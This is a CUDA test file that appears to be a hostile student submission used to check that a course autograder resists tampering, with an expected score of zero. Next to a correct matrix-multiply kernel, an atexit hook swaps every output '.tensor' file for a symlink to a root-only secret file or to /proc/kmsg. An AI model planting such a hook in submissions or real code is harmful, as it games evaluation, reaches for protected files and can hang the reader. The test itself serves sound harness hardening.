// attack: computes the right answer, then, once the harness has written its
// output, replaces output.tensor (every output, in a series) by a link to a
// root-only file (the course's secret) or to /proc/kmsg, which blocks whoever
// reads it
// expect: zero
#include "lab.h"
#include <stdlib.h>
#include <unistd.h>
#include <dirent.h>
#include <string.h>
static void swap_output(void)
{
    /* every output the harness wrote (a series writes one per dataset) */
    DIR *d = opendir(".");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        size_t n = strlen(e->d_name);
        if (n < 7 || strcmp(e->d_name + n - 7, ".tensor") != 0)
            continue;
        unlink(e->d_name);
        if (symlink("@SECRET@", e->d_name) != 0)
            symlink("/proc/kmsg", e->d_name);
    }
    if (d)
        closedir(d);
}
__global__ void MatMul(const float *M, const float *N, float *P, int width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < width && Col < width) {
        float v = 0;
        for (int k = 0; k < width; ++k)
            v += M[Row * width + k] * N[k * width + Col];
        P[Row * width + Col] = v;
    }
}
void basic_matmul(const float *M, const float *N, float *P, int width)
{
    static int registered;
    if (!registered && atexit(swap_output) == 0)
        registered = 1;
    float *dM, *dN, *dP;
    size_t bytes = (size_t)width * width * sizeof(float);
    cudaMalloc(&dM, bytes); cudaMalloc(&dN, bytes); cudaMalloc(&dP, bytes);
    cudaMemcpy(dM, M, bytes, cudaMemcpyHostToDevice);
    cudaMemcpy(dN, N, bytes, cudaMemcpyHostToDevice);
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatMul<<<grid, block>>>(dM, dN, dP, width);
    cudaMemcpy(P, dP, bytes, cudaMemcpyDeviceToHost);
    cudaFree(dM); cudaFree(dN); cudaFree(dP);
}
